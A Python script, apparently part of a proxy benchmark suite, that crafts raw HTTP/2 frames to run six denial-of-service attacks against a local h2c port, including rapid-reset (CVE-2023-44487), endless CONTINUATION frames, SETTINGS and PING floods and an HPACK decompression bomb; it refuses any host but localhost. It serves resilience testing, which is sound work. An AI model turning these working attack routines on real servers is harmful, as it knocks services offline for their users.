#!/usr/bin/env python3
"""HTTP/2 abuse against one h2c port on 127.0.0.1, bounded by count and time (bench/proxy/h2abuse.sh runs it per round).

Kinds (each opens its own connections, writes raw frames, reads whatever comes back, closes):
  rapid-reset   HEADERS then RST_STREAM(CANCEL) for every stream, STREAMS per connection (CVE-2023-44487)
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of fresh header fields, never ended
  settings      SETTINGS frames, never waiting for the ACK
  hpack-bomb    one 4 KB field in the HPACK dynamic table, then indexed references to it (a small block that decodes huge)
  big-headers   complete requests, each with ~16 KB of header fields
  ping          PING frames
Usage: h2abuse.py HOST:PORT AUTHORITY KIND CONNECTIONS COUNT [SECONDS]
"""
import socket, struct, sys, time

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def lit(name, value):  # literal without indexing, no Huffman (lengths < 127 or 7-bit prefix integers)
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value

def hpack_int(n, prefix):
    top = (1 << prefix) - 1
    if n < top: return bytes([n])
    out = [top]; n -= top
    while n >= 128: out.append((n & 127) | 128); n >>= 7
    out.append(n); return bytes(out)

def request_block(authority, extra=b""):
    return lit(b":method", b"GET") + lit(b":scheme", b"http") + lit(b":path", b"/") + lit(b":authority", authority) + extra

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)

def drain(s):
    try:
        while s.recv(65536): pass
    except (BlockingIOError, socket.timeout, OSError): pass

def one_connection(addr, authority, kind, count, deadline):
    s = socket.create_connection(addr, timeout=5)
    s.setblocking(False)
    out = bytearray(PREFACE)
    sent = 0
    try:
        if kind == "rapid-reset":
            for i in range(count):
                sid = 2 * i + 1
                out += frame(1, 0x5, sid, request_block(authority)) + frame(3, 0, sid, struct.pack(">I", 8))
        elif kind == "continuation":
            out += frame(1, 0x1, 1, request_block(authority))  # END_STREAM, no END_HEADERS
            for i in range(count):
                out += frame(9, 0, 1, lit(b"x-c%d" % i, b"v" * 100))
        elif kind == "settings":
            for i in range(count): out += frame(4, 0, 0, struct.pack(">HI", 3, 100 + i % 50))
        elif kind == "ping":
            for i in range(count): out += frame(6, 0, 0, struct.pack(">Q", i))
        elif kind == "hpack-bomb":
            big = b"\x40" + hpack_int(6, 7) + b"x-bomb" + hpack_int(4000, 7) + b"b" * 4000  # incremental indexing → index 62
            for i in range(count):
                sid = 2 * i + 1
                out += frame(1, 0x5, sid, request_block(authority, (big if i == 0 else b"") + b"\xbe" * 200))
        elif kind == "big-headers":
            fields = b"".join(lit(b"x-big-%d" % j, b"h" * 1000) for j in range(16))
            for i in range(count):
                sid = 2 * i + 1
                out += frame(1, 0x5, sid, request_block(authority, fields))
        else:
            raise SystemExit("unknown kind " + kind)
        view = memoryview(out)
        while view and time.monotonic() < deadline:
            try:
                n = s.send(view[:65536]); view = view[n:]; sent += n
            except BlockingIOError:
                drain(s); time.sleep(0.001)
            except OSError:
                break  # the proxy closed the connection (GOAWAY / reset): that is its answer
            drain(s)
    finally:
        s.close()
    return sent

def main():
    host, port = sys.argv[1].rsplit(":", 1)
    if host not in ("127.0.0.1", "localhost"): raise SystemExit("127.0.0.1 only")
    authority, kind = sys.argv[2].encode(), sys.argv[3]
    connections, count = int(sys.argv[4]), int(sys.argv[5])
    deadline = time.monotonic() + (float(sys.argv[6]) if len(sys.argv) > 6 else 30)
    total = 0
    for _ in range(connections):
        if time.monotonic() >= deadline: break
        try: total += one_connection((host, int(port)), authority, kind, count, deadline)
        except OSError: pass
    print(f"{kind}: {connections} connections x {count}, {total} bytes sent")

main()
